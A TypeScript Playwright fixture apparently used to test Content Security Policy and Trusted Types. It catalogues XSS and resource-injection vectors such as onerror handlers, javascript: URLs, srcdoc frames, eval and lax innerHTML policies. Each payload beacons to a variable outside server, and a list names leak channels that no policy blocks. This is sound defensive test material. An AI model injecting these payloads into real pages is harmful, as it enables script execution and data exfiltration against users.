import type { Page } from '@playwright/test';

/** One way to make the page run or send what is not its own. Whether it did is seen at a stranger's server. */
export interface Injection {
  what: string;
  /** The directive that stops it. */
  by: string;
  /** The directive of Trusted Types that stops it before, in a browser that has them. */
  typed?: 'require-trusted-types-for' | 'trusted-types';
  /** What stands in the page as it comes over the wire. What it wants pressed has the id "press". */
  markup?: (stranger: string) => string;
  /** What a script of the page does. */
  inPage?: (stranger: string) => unknown;
}

/** A script that lets the stranger know that it ran. */
const tell = (stranger: string) => `fetch('${stranger}/ran', { mode: 'no-cors' })`;

const TYPED = 'require-trusted-types-for';

const SCRIPTS: Injection[] = [
  { what: 'an inline script', by: 'script-src-elem', markup: (to) => `<script>${tell(to)}</script>` },
  { what: 'an inline module', by: 'script-src-elem', markup: (to) => `<script type="module">${tell(to)}</script>` },
  { what: 'a script from elsewhere', by: 'script-src-elem', markup: (to) => `<script src="${to}/a.js"></script>` },
  { what: 'a module from elsewhere', by: 'script-src-elem', markup: (to) => `<script type="module" src="${to}/a.js"></script>` },
  { what: 'a script in its address', by: 'script-src-elem', markup: (to) => `<script src="data:text/javascript,${tell(to)}"></script>` },
  { what: 'an event handler of an image', by: 'script-src-attr', markup: (to) => `<img src="none.png" onerror="${tell(to)}">` },
  { what: 'an event handler of a picture', by: 'script-src-attr', markup: (to) => `<svg onload="${tell(to)}"></svg>` },
  { what: 'a javascript: link', by: 'script-src-elem', markup: (to) => `<a id="press" href="javascript:void ${tell(to)}">x</a>` },
  {
    what: 'a javascript: form',
    by: 'form-action',
    markup: (to) => `<form action="javascript:void ${tell(to)}"><button id="press">x</button></form>`,
  },
  { what: 'a frame of javascript:', by: 'script-src-elem', markup: (to) => `<iframe src="javascript:void ${tell(to)}"></iframe>` },
  { what: 'a frame with markup of its own', by: 'script-src-elem', markup: (to) => `<iframe srcdoc="<script>${tell(to)}</script>"></iframe>` },
  { what: 'a data: frame', by: 'frame-src', markup: (to) => `<iframe src="data:text/html,<script>${tell(to)}</script>"></iframe>` },
  { what: 'eval', by: 'script-src', typed: TYPED, inPage: (to) => setTimeout(() => eval(`fetch('${to}/ran', { mode: 'no-cors' })`)) },
  { what: 'new Function', by: 'script-src', typed: TYPED, inPage: (to) => setTimeout(() => new Function(`fetch('${to}/ran', { mode: 'no-cors' })`)()) },
  { what: 'a timer with a text', by: 'script-src', typed: TYPED, inPage: (to) => setTimeout(() => setTimeout(`fetch('${to}/ran', { mode: 'no-cors' })`)) },
  { what: 'an import from elsewhere', by: 'script-src-elem', inPage: (to) => void import(`${to}/a.js`).catch(() => {}) },
  {
    what: 'a handler set by a script',
    by: 'script-src-attr',
    typed: TYPED,
    inPage: (to) => {
      const button = document.createElement('button');
      button.setAttribute('onclick', `fetch('${to}/ran', { mode: 'no-cors' })`);
      button.click();
    },
  },
  {
    what: 'a script made by a script',
    by: 'script-src-elem',
    typed: TYPED,
    inPage: (to) => {
      const script = document.createElement('script');
      script.text = `fetch('${to}/ran', { mode: 'no-cors' })`;
      document.head.append(script);
    },
  },
  {
    what: 'a script from elsewhere, made by a script',
    by: 'script-src-elem',
    typed: TYPED,
    inPage: (to) => {
      const script = document.createElement('script');
      script.src = `${to}/a.js`;
      document.head.append(script);
    },
  },
  {
    what: 'a text read as markup',
    by: 'script-src-attr',
    typed: TYPED,
    inPage: (to) => document.body.insertAdjacentHTML('beforeend', `<img src="none.png" onerror="fetch('${to}/ran', { mode: 'no-cors' })">`),
  },
  {
    what: 'a piece of a document made of a text',
    by: 'script-src-attr',
    typed: TYPED,
    inPage: (to) => {
      const markup = `<img src="none.png" onerror="fetch('${to}/ran', { mode: 'no-cors' })">`;
      document.body.append(new Range().createContextualFragment(markup));
    },
  },
  {
    what: 'a policy of its own for texts',
    by: 'script-src-attr',
    typed: 'trusted-types',
    inPage: (to) => {
      const { trustedTypes } = window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): { createHTML(text: string): string } } };
      const policy = trustedTypes.createPolicy('lax', { createHTML: (text: string) => text });
      document.body.innerHTML = policy.createHTML(`<img src="none.png" onerror="fetch('${to}/ran', { mode: 'no-cors' })">`);
    },
  },
  {
    what: 'a worker',
    by: 'worker-src',
    typed: TYPED,
    inPage: (to) => new Worker(URL.createObjectURL(new Blob([`fetch('${to}/ran', { mode: 'no-cors' })`]))),
  },
  {
    what: 'a shared worker',
    by: 'worker-src',
    typed: TYPED,
    inPage: (to) => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${to}/ran', { mode: 'no-cors' })`]))),
  },
];

const SHEETS: Injection[] = [
  { what: 'a style element', by: 'style-src-elem', markup: (to) => `<style>body { background: url(${to}/a.svg) }</style>` },
  { what: 'a style attribute', by: 'style-src-attr', markup: (to) => `<p style="background: url(${to}/a.svg)">x</p>` },
  { what: 'a style sheet from elsewhere', by: 'style-src-elem', markup: (to) => `<link rel="stylesheet" href="${to}/a.css">` },
  {
    what: 'a style sheet that a style sheet asks for',
    by: 'style-src-elem',
    markup: (to) => `<link rel="stylesheet" href="data:text/css,@import '${to}/a.css'">`,
  },
  {
    what: 'a style that asks for an image',
    by: 'img-src',
    inPage: (to) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`body { background: url(${to}/a.svg) }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
  },
  {
    what: 'a style that asks for a font',
    by: 'font-src',
    inPage: (to) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`@font-face { font-family: theirs; src: url(${to}/a.woff2) } body { font-family: theirs !important }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
    },
  },
  { what: 'a font', by: 'font-src', inPage: (to) => void new FontFace('theirs', `url(${to}/a.woff2)`).load().catch(() => {}) },
];

const IMAGES: Injection[] = [
  { what: 'an image', by: 'img-src', markup: (to) => `<img src="${to}/a.svg">` },
  { what: 'an image in two sizes', by: 'img-src', markup: (to) => `<img srcset="${to}/a.svg 1x, ${to}/b.svg 2x">` },
  { what: 'an image as a button', by: 'img-src', markup: (to) => `<input type="image" src="${to}/a.svg">` },
  { what: 'an image in a picture', by: 'img-src', markup: (to) => `<svg><image href="${to}/a.svg" width="9" height="9"/></svg>` },
  { what: "a film's poster", by: 'img-src', markup: (to) => `<video poster="${to}/a.svg"></video>` },
  { what: 'a film', by: 'media-src', markup: (to) => `<video preload="auto" src="${to}/a.mp4"></video>` },
  { what: 'a sound', by: 'media-src', markup: (to) => `<audio preload="auto" src="${to}/a.mp3"></audio>` },
  {
    what: 'an image made by a script',
    by: 'img-src',
    inPage: (to) => {
      new Image().src = `${to}/a.svg?key`;
    },
  },
];

const OTHERS: Injection[] = [
  { what: 'a frame from elsewhere', by: 'frame-src', markup: (to) => `<iframe src="${to}/a.html"></iframe>` },
  { what: 'an object', by: 'object-src', markup: (to) => `<object data="${to}/a.html"></object>` },
  { what: 'an embedded file', by: 'object-src', markup: (to) => `<embed src="${to}/a.html">` },
  {
    what: 'a form to elsewhere',
    by: 'form-action',
    markup: (to) => `<form method="post" action="${to}/a"><input name="key" value="1"><button id="press">x</button></form>`,
  },
  {
    what: 'a button that leads a form elsewhere',
    by: 'form-action',
    markup: (to) => `<form><input name="key" value="1"><button id="press" formaction="${to}/a">x</button></form>`,
  },
  {
    what: 'a base for all addresses',
    by: 'base-uri',
    inPage: (to) => {
      const base = document.createElement('base');
      base.href = `${to}/`;
      document.head.prepend(base);
      void fetch('a.html', { mode: 'no-cors' });
    },
  },
  { what: 'a preload', by: 'img-src', markup: (to) => `<link rel="preload" as="image" href="${to}/a.svg">` },
  { what: 'a preload of a module', by: 'script-src-elem', markup: (to) => `<link rel="modulepreload" href="${to}/a.js">` },
  { what: 'a web socket', by: 'connect-src', inPage: (to) => new WebSocket(`${to.replace('http', 'ws')}/a`) },
];

export const INJECTIONS: Injection[] = [...SCRIPTS, ...SHEETS, ...IMAGES, ...OTHERS];

/** What no policy forbids that leaves a person the choice of a server. */
export const GAPS: Injection[] = [
  { what: 'a prefetch', by: '', markup: (to) => `<link rel="prefetch" href="${to}/a.html">` },
  { what: 'a ping', by: '', markup: (to) => `<a id="press" ping="${to}/a" href="#x">x</a>` },
  { what: 'a way elsewhere', by: '', inPage: (to) => void setTimeout(() => location.assign(`${to}/a.html`)) },
];

/** Does in the page what there is to do, beside what stands in it already. */
export async function inject(page: Page, { inPage }: Injection, stranger: string) {
  // What the page refuses, it may refuse by an error.
  if (inPage) await page.evaluate(inPage, stranger).catch(() => {});
  else await page.evaluate(() => document.getElementById('press')?.click());
}
